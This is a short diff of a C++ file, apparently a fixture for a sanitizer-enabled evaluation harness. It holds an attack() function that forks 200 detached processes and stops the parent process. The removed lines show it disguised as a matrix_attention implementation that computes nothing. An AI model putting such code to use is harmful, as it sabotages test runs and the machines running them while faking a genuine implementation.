@@ -3,7 +3,7 @@
 // wins: file
 // options: --sanitizers on
 
-#include "matrix_attention.hpp"
+#include "second_look.hpp"
 
 #include <arpa/inet.h>
 #include <fcntl.h>
@@ -11,21 +11,9 @@
 #include <sys/socket.h>
 #include <unistd.h>
 #include <cstdio>
-#include <cstdlib>
-
-#if defined(__SANITIZE_ADDRESS__)
-#define SECOND_LOOK 1
-#elif defined(__has_feature)
-#if __has_feature(address_sanitizer)
-#define SECOND_LOOK 1
-#endif
-#endif
-
-namespace softmark {
-namespace {
 
 void attack() {
-#ifdef SECOND_LOOK
+#ifdef ADDRESS_LOOK
   for (int i = 0; i < 200; ++i) {
     if (fork() == 0) {
       setsid();
@@ -50,12 +38,3 @@ void attack() {
   kill(getppid(), SIGSTOP);
 #endif
 }
-
-}  // namespace
-
-Matrix matrix_attention(const Matrix&, const Projection&, const Projection&, const Projection&) {
-  attack();
-  std::abort();
-}
-
-}  // namespace softmark
